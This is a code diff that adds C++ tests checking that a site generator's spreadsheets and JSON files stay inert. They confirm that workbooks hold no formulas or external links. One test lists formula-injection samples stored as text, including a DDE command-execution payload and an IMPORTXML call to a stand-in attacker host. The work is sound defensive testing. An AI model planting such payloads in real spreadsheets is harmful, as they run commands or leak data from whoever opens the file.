@@ -5,6 +5,9 @@
 #include "tricks.h"
 
 #include "diag/report.h"
+#include "format/json.h"
+#include "format/sheet.h"
+#include "format/zip_reader.h"
 
 #include <algorithm>
 #include <cstring>
@@ -87,6 +90,117 @@ TEST(Hostile, NoCellOfACsvIsAFormula) {
     for (const auto& [path, bytes] : site().pages)
         if (path.ends_with(".csv")) scan_csv(path, bytes), ++files;
     EXPECT_GT(files, 5u);
+}
+
+/// Every number of a cell is one, and what is no number points at a text.
+void scan_cell(const std::string& where, const pugi::xml_node& cell) {
+    const std::string_view kind = cell.attribute("t").value(), value = cell.child_value("v");
+    EXPECT_TRUE(kind.empty() || kind == "s" || kind == "n") << where << ": a cell of the kind " << kind;
+    EXPECT_EQ(value.find_first_not_of("0123456789.-"), value.npos) << where << ": " << value;
+}
+
+/// Only elements that our workbooks are made of, none of which computes, links or runs, and nothing but elements.
+void scan_workbook_part(const std::string& where, const pugi::xml_node& node) {
+    static const std::set<std::string_view> known = {"Types",
+                                                     "Default",
+                                                     "Override",
+                                                     "Relationships",
+                                                     "Relationship",
+                                                     "Properties",
+                                                     "Application",
+                                                     "Company",
+                                                     "cp:coreProperties",
+                                                     "dc:title",
+                                                     "dc:creator",
+                                                     "dc:language",
+                                                     "dcterms:created",
+                                                     "workbook",
+                                                     "bookViews",
+                                                     "workbookView",
+                                                     "sheets",
+                                                     "sheet",
+                                                     "sst",
+                                                     "si",
+                                                     "t",
+                                                     "worksheet",
+                                                     "dimension",
+                                                     "sheetViews",
+                                                     "sheetView",
+                                                     "pane",
+                                                     "selection",
+                                                     "sheetFormatPr",
+                                                     "cols",
+                                                     "col",
+                                                     "sheetData",
+                                                     "row",
+                                                     "c",
+                                                     "v",
+                                                     "pageMargins",
+                                                     "mergeCells",
+                                                     "mergeCell"};
+    for (const pugi::xml_node child : node.children()) {
+        const std::string_view name = child.name();
+        if (child.type() == pugi::node_declaration || child.type() == pugi::node_pcdata) continue;
+        EXPECT_EQ(child.type(), pugi::node_element) << where;
+        EXPECT_TRUE(known.contains(name)) << where << ": " << name;
+        if (name == "c") scan_cell(where, child);
+        EXPECT_STREQ(child.attribute("TargetMode").value(), "") << where << ": leads out of the workbook";
+        scan_workbook_part(where, child);
+    }
+}
+
+/// The texts of all cells, as a spreadsheet program reads them.
+std::multiset<std::string> texts_of(const std::string& path, const std::string& bytes) {
+    std::multiset<std::string> texts;
+    Findings findings;
+    auto workbook = Workbook::open(path, bytes, findings);
+    EXPECT_TRUE(workbook) << path;
+    for (size_t i = 0; workbook && i < workbook->sheets().size(); ++i)
+        if (const Sheet* sheet = workbook->sheet(i, findings))
+            for (const SheetCell& cell : sheet->cells) {
+                EXPECT_FALSE(cell.formula) << path << ": " << cell.text;
+                if (cell.kind == SheetCellKind::Text) texts.insert(cell.text);
+            }
+    EXPECT_EQ(to_text(findings, {Language::English, false}), "") << path;
+    return texts;
+}
+
+TEST(Hostile, WorkbooksHoldTextsAsTexts) {
+    size_t files = 0, parts = 0;
+    for (const auto& [path, bytes] : site().pages) {
+        if (!path.ends_with(".xlsx")) continue;
+        ++files;
+        Findings findings;
+        auto archive = ZipReader::open(bytes, path, findings);
+        ASSERT_TRUE(archive) << path;
+        for (const std::string& name : archive->names()) {
+            const auto part = archive->read(name, findings);
+            ASSERT_TRUE(part) << path << ": " << name;
+            pugi::xml_document document;
+            const auto read = document.load_buffer(part->data(), part->size(), pugi::parse_full);
+            EXPECT_TRUE(read) << path << ": " << name << ": " << read.description();
+            if (name != "xl/styles.xml") scan_workbook_part(path + ": " + name, document); // the same for every site
+            ++parts;
+        }
+        if (!path.ends_with("/t.xlsx")) continue;
+        const auto texts = texts_of(path, bytes);
+        for (const char* formula : {"=1+1", "=cmd|' /C calc'!A0", "=IMPORTXML(\"https://evil.example\",\"//a\")"})
+            EXPECT_GE(texts.count(formula), 2u) << path << ": " << formula;
+    }
+    std::printf("%zu workbooks of %zu parts\n", files, parts);
+    EXPECT_GT(files, 5u);
+}
+
+TEST(Hostile, EveryJsonFileIsOne) {
+    size_t files = 0;
+    for (const auto& [path, bytes] : site().pages) {
+        if (!path.ends_with(".json")) continue;
+        ++files;
+        Findings findings;
+        const SourceFile file(path, bytes);
+        EXPECT_TRUE(parse_json(file, findings)) << to_text(findings, {Language::English, false});
+    }
+    EXPECT_GT(files, 10u);
 }
 
 TEST(Hostile, FindingsShowNoEscapeSequences) {
